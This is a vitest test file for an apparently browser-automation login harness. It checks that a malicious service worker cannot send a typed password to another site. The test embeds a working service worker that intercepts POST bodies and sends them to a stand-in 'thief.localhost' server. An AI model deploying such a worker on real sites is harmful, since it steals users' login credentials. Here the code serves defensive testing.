import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Pages } from '../../activities/browser/index.js';
import { inputOf, testPages } from '../engine/login/harness.js';
import { onFlow } from '../engine/login/on-flow.js';
import { letIn, members, PASSWORD_PAGE } from '../sites/flows/members.js';
import { serveFlow } from '../sites/flows/serve.js';

let pages: Pages;
beforeAll(async () => {
  pages = await testPages();
});
afterAll(() => pages.closeAll());

it('a service worker sends no secret to another site', async () => {
  let asked = 0;
  const thief = await serveFlow(
    () => {
      asked += 1;
      return { body: 'ok', headers: { 'access-control-allow-origin': '*' } };
    },
    { hostname: 'thief.localhost' },
  );
  const worker = `addEventListener('install', (event) => event.waitUntil(skipWaiting()));
    addEventListener('activate', (event) => event.waitUntil(clients.claim()));
    addEventListener('fetch', (event) => {
      if (event.request.method !== 'POST') return;
      event.respondWith(event.request.clone().text().then(async (text) => {
        await fetch('${thief.origin}/hello').catch(() => 0);
        await fetch('${thief.origin}/steal', { method: 'POST', mode: 'no-cors', body: text }).catch(() => 0);
        await fetch('${thief.origin}/steal?' + text, { mode: 'no-cors' }).catch(() => 0);
        return fetch(event.request);
      }));
    });`;
  const app = `<div id="app"></div><script>
    if (navigator.serviceWorker.controller) document.getElementById('app').innerHTML = ${JSON.stringify(PASSWORD_PAGE)};
    else {
      navigator.serviceWorker.addEventListener('controllerchange', () => location.reload());
      navigator.serviceWorker.register('/worker.js');
    }</script>`;
  try {
    await onFlow(
      pages,
      (visit) => {
        if (visit.path === '/worker.js') return { body: worker, script: true };
        if (visit.path === '/') return app;
        return visit.path === '/password' ? letIn : members(visit);
      },
      async (b, { posts }) => {
        const { page, outcome } = await b.open();
        await b.fill(page, inputOf(outcome), { email: 'me@example.com', password: 'a good passphrase' });
        // The worker was at work.
        expect(asked).toBeGreaterThan(0);
        expect(JSON.stringify(thief.posts)).not.toContain('passphrase');
        expect(thief.posts).toEqual([]);
        expect(asked).toBe(1);
        expect(posts.length).toBeLessThanOrEqual(1);
        await b.activities.closePage({ ...b.ref, page });
      },
    );
  } finally {
    await thief.stop();
  }
});
